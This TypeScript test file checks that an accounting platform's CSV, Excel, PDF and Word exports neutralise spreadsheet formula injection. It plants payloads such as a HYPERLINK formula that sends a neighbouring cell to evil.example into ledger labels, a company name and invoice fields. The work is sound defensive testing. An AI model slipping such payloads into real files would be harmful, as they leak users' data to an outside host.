/**
 * Issue #34, item 5. A control's CSV export (`…/controls/<id>/export.csv`) wrote a FEC's label
 * `=HYPERLINK("http://evil.example/?x="&A1;…)` as a live formula: opened in a spreadsheet, it computes and
 * sends the neighbouring cell away. The FEC table export already made it inert. One small FEC with a few
 * planted formulas (labels, an account label, a piece reference, a field beyond the header that the
 * corrector drops into its log) and a company name that is one, analysed by the engine, corrected, reported;
 * then every export route, straight from the API (REST) and through the gateway's download routes (the
 * GraphQL client's links): no CSV cell starts a formula, no Excel cell is a formula (exceljs), no PDF or
 * Word document carries a link or a field made from the FEC's text.
 */
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { getDocumentProxy } from 'unpdf';
import { writeGeneratedFec } from '../../engine/src/index';
import type { TestDatabase } from '../../platform/db';
import { analyse, insertFec, waitCorrected, waitFinished } from '../../api/src/analyses/testing/fixtures';
import { DEFAULT_SELLER } from '../../api/src/config/config';
import { issueInvoice } from '../../api/src/invoices/invoice-service';
import type { ApiHarness, TestUser } from '../../api/src/testing/harness';
import {
  openGatewayTestDatabase,
  startGatewayHarness,
  type GatewayHarness,
} from '../../gateway/src/testing/harness';

let database: TestDatabase<unknown>;
let g: GatewayHarness;
let h: ApiHarness;
let base: string;
let owner: TestUser;
let work: string;
let fec: string;
let analysis: string;
let report: string;
let invoice: string;
let controlIds: string[];

const EVIL = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")';
/** What the FEC's text fields get (none holds the FEC's separator). */
const PLANTED = [EVIL, '+33 6 12 34 56 78', '-2+3', '@SUM(1+1)', '=1+1'];
const COMPANY = '=HYPERLINK("http://evil.example/?societe="&B2;"Société")';

/** Would a spreadsheet compute this cell? (A plain negative figure is a number, not a formula.) */
const live = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-\d[\d \u00a0\u202f]*(?:[.,]\d+)?$/.test(cell);

/** A `;` CSV read as a spreadsheet reads it: quoted fields, doubled quotes, line breaks inside quotes. */
function cells(csv: string): string[] {
  const out: string[] = [];
  let field = '';
  let quoted = false;
  const text = csv.replace(/^\uFEFF/, '');
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === '') quoted = true;
    else if (c === ';' || c === '\n') {
      out.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') continue;
    else field += c;
  }
  if (field) out.push(field);
  return out;
}

beforeAll(async () => {
  database = await openGatewayTestDatabase();
  g = await startGatewayHarness(database);
  h = g.api;
  base = g.url.replace(/\/graphql$/, '');
  owner = await h.newOwner();
  work = await mkdtemp(join(tmpdir(), 'export-formulas-'));

  // One small generated FEC, a few of its text fields turned into formulas.
  const path = join(work, 'fec.txt');
  const manifest = await writeGeneratedFec(path, { seed: 'formulas', siren: '732829320', targetLines: 300 });
  const [header, ...rows] = (await readFile(path, 'utf8')).split(/\r?\n/);
  const sep = header.includes('\t') ? '\t' : '|';
  const columns = header.split(sep);
  const at = (name: string) => columns.indexOf(name);
  const planted = rows.map((row, i) => {
    if (row === '' || i % 7 !== 1) return row;
    const f = row.split(sep);
    f[at('EcritureLib')] = PLANTED[i % PLANTED.length];
    f[at('PieceRef')] = PLANTED[(i + 1) % PLANTED.length];
    f[at('CompteLib')] = PLANTED[(i + 2) % PLANTED.length];
    // Unbalanced: the entry shows in the balance control's rows, its label with it.
    f[at('Debit')] = '1,00';
    f[at('Credit')] = '0,00';
    // A field beyond the header: the corrector drops it and logs it.
    return i === 8 ? [...f, EVIL].join(sep) : f.join(sep);
  });
  await writeFile(path, [header, ...planted].join('\r\n'));

  fec = await insertFec(h, owner, path, { originalName: `${manifest.fileName}.txt` });
  const named = await h.call('PUT', `/v1/fecs/${fec}`, {
    token: owner.accessToken,
    body: { company_name: COMPANY },
  });
  expect(named.status).toBe(200);
  const done = await waitFinished(h, await analyse(h, owner, fec));
  expect(done.status).toBe('done');
  analysis = done.uuid;

  const corrected = await h.call('POST', `/v1/fecs/${fec}/corrected`, { token: owner.accessToken });
  expect(corrected.status).toBe(202);
  expect((await waitCorrected(h, analysis)).corrected_status).toBe('done');

  const reports = await h.call<{ data: { data: { items: { uuid: string }[] } } }>('POST', '/v1/reports', {
    token: owner.accessToken,
    body: { name: 'Revue', fec_uuids: [fec], formats: ['pdf', 'docx', 'xlsx'] },
  });
  expect(reports.status).toBe(201);
  report = reports.body.data.data.items[0].uuid;

  // An invoice whose buyer is a formula (the account's own billing text).
  const issued = await h.db.transaction().execute((trx) =>
    issueInvoice(
      trx,
      { storage: h.deps.storage, seller: DEFAULT_SELLER },
      {
        kind: 'invoice',
        accountUuid: owner.accountUuid,
        orderUuid: null,
        buyer: {
          company_name: COMPANY,
          address: EVIL,
          address_complement: null,
          zip_code: '75001',
          city: 'Paris',
          country: 'FR',
          siren: null,
          vat_number: null,
        },
        lines: [{ label: EVIL, detail: null, quantity: 1, unit_ht_cents: 1000, total_ht_cents: 1000 }],
        totalHtCents: 1000,
        vatRateBp: 2000,
        vatCents: 200,
        totalTtcCents: 1200,
        paymentMethodLabel: null,
        paidAt: new Date(),
        now: new Date(),
      },
    ),
  );
  invoice = issued.uuid;

  const controls = await h.call<{ data: { data: { items: { id: string; count: number }[] } } }>(
    'GET',
    `/v1/analyses/${analysis}/controls`,
    { token: owner.accessToken },
  );
  controlIds = controls.body.data.data.items.filter((c) => c.count > 0).map((c) => c.id);
  expect(controlIds.length).toBeGreaterThan(0);

  // The report is generated off the request path: wait for it.
  const until = Date.now() + 60_000;
  for (;;) {
    const res = await h.call<{ data: { data: { status: string } } }>('GET', `/v1/reports/${report}`, {
      token: owner.accessToken,
    });
    if (res.body.data.data.status !== 'loading') {
      expect(res.body.data.data.status).toBe('done');
      break;
    }
    if (Date.now() > until) throw new Error('report still loading');
    await new Promise((r) => setTimeout(r, 100));
  }
}, 180_000);

afterAll(async () => {
  await g?.close();
  await database?.cleanup();
  if (work) await rm(work, { recursive: true, force: true });
});

/** A file from the API itself (REST, `AccessToken`) or from the gateway's download route (bearer). */
async function download(side: 'rest' | 'gateway', apiPath: string, gatewayPath: string): Promise<Buffer> {
  const res =
    side === 'rest'
      ? await fetch(`${h.url}/api${apiPath}`, { headers: { AccessToken: owner.accessToken } })
      : await fetch(`${base}${gatewayPath}`, { headers: { authorization: `Bearer ${owner.accessToken}` } });
  expect({ side, apiPath, status: res.status }).toEqual({ side, apiPath, status: 200 });
  return Buffer.from(await res.arrayBuffer());
}

/** Every CSV route: no live cell; returns the cells holding a planted formula (shown, inert). */
function expectInertCsv(where: string, bytes: Buffer): string[] {
  const all = cells(bytes.toString('utf8'));
  expect({ where, live: all.filter(live) }).toEqual({ where, live: [] });
  return all.filter((c) => c.includes('HYPERLINK') || PLANTED.some((p) => c.includes(p)));
}

/** Every Excel route: no formula cell anywhere; returns the string cells holding a planted formula. */
async function expectNoFormulaCell(where: string, bytes: Buffer): Promise<string[]> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes as unknown as ArrayBuffer);
  const found: string[] = [];
  book.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect({ where, ref: cell.address, type: cell.type, formula: cell.formula }).toEqual({
          where,
          ref: cell.address,
          type: cell.type === ExcelJS.ValueType.Formula ? 'not a formula' : cell.type,
          formula: undefined,
        });
        if (
          typeof cell.value === 'string' &&
          [...PLANTED, COMPANY].some((p) => (cell.value as string).includes(p))
        ) {
          expect(cell.type).toBe(ExcelJS.ValueType.String);
          found.push(cell.value);
        }
      }),
    ),
  );
  return found;
}

/** Every PDF route: no link annotation (a URI to follow), whatever the text says. */
async function expectNoLink(where: string, bytes: Buffer) {
  const doc = await getDocumentProxy(new Uint8Array(bytes));
  for (let p = 1; p <= doc.numPages; p++) {
    const annotations = (await (await doc.getPage(p)).getAnnotations()) as {
      subtype: string;
      url?: string;
    }[];
    expect({ where, page: p, links: annotations.filter((a) => a.subtype === 'Link' && a.url) }).toEqual({
      where,
      page: p,
      links: [],
    });
  }
}

/** The Word route: no external relationship, no field but the table of contents. */
async function expectNoWordField(where: string, bytes: Buffer) {
  const zip = await JSZip.loadAsync(bytes);
  const rels = await zip.file('word/_rels/document.xml.rels')!.async('string');
  expect({ where, external: /TargetMode="External"/.test(rels) }).toEqual({ where, external: false });
  const xml = await zip.file('word/document.xml')!.async('string');
  const instructions = [...xml.matchAll(/<w:instrText[^>]*>([^<]*)<\/w:instrText>/g)].map((m) => m[1].trim());
  expect({ where, instructions: instructions.filter((i) => !/^(TOC\b|PAGEREF _Toc\d+ )/.test(i)) }).toEqual({
    where,
    instructions: [],
  });
  expect({
    where,
    simpleFields: /<w:fldSimple/.test(xml),
    hyperlinks: /<w:hyperlink [^>]*r:id=/.test(xml),
  }).toEqual({ where, simpleFields: false, hyperlinks: false });
}

describe.each(['rest', 'gateway'] as const)('every export route, %s', (side) => {
  it('CSV: the FEC table, each control, the diagnostics, the corrections log — no live cell', async () => {
    const table = expectInertCsv(
      'fecs/export.csv',
      await download(side, '/v1/fecs/export.csv', '/download/fecs/export.csv'),
    );
    expect(table).toContain(`'${COMPANY}`);

    const shown: string[] = [];
    // Through the gateway, the controls holding a planted formula are enough (the bytes pass unchanged).
    for (const id of side === 'rest' ? controlIds : controlIds.slice(0, 6)) {
      const path = `/analyses/${analysis}/controls/${id}/export.csv`;
      shown.push(...expectInertCsv(path, await download(side, `/v1${path}`, `/download${path}`)));
    }
    if (side === 'rest') expect(shown).toContain(`'${EVIL}`);

    expectInertCsv(
      'diagnostics.csv',
      await download(
        side,
        `/v1/analyses/${analysis}/diagnostics.csv`,
        `/download/analyses/${analysis}/diagnostics.csv`,
      ),
    );
    const log = expectInertCsv(
      'corrections log',
      await download(side, `/v1/fecs/${fec}/corrected?log=true`, `/download/fecs/${fec}/corrected?log=true`),
    );
    expect(log).toContain(`'${EVIL}`);
  });

  it('Excel: the FEC table, each control, the report — string cells, never formulas', async () => {
    const table = await expectNoFormulaCell(
      'fecs/export.xlsx',
      await download(side, '/v1/fecs/export.xlsx', '/download/fecs/export.xlsx'),
    );
    expect(table).toContain(COMPANY);
    const shown: string[] = [];
    for (const id of side === 'rest' ? controlIds : controlIds.slice(0, 6)) {
      const path = `/analyses/${analysis}/controls/${id}/export.xlsx`;
      shown.push(
        ...(await expectNoFormulaCell(path, await download(side, `/v1${path}`, `/download${path}`))),
      );
    }
    if (side === 'rest') expect(shown).toContain(EVIL);
    await expectNoFormulaCell(
      'report.xlsx',
      await download(side, `/v1/reports/${report}/files/xlsx`, `/download/reports/${report}.xlsx`),
    );
  });

  it('PDF and Word: the certificate, the report, the invoice — no link, no field from the text', async () => {
    await expectNoLink(
      'certificate.pdf',
      await download(
        side,
        `/v1/analyses/${analysis}/certificate.pdf`,
        `/download/analyses/${analysis}/certificate.pdf`,
      ),
    );
    await expectNoLink(
      'report.pdf',
      await download(side, `/v1/reports/${report}/files/pdf`, `/download/reports/${report}.pdf`),
    );
    await expectNoLink(
      'invoice.pdf',
      await download(side, `/v1/invoices/${invoice}/pdf`, `/download/invoices/${invoice}.pdf`),
    );
    await expectNoWordField(
      'report.docx',
      await download(side, `/v1/reports/${report}/files/docx`, `/download/reports/${report}.docx`),
    );
  });
});
